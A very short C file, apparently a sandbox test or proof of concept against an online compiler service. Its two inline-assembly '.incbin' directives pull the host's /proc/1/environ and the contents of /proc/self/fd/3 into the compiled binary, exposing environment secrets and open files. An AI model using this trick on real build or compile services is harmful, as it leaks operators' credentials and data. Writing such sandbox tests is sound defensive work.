// Has the assembler embed the compiler's own environment, memory and neighbours -> CE
__asm__(".incbin \"/proc/1/environ\"\n");
__asm__(".incbin \"/proc/self/fd/3\"\n");
int main(void)
{
    return 0;
}
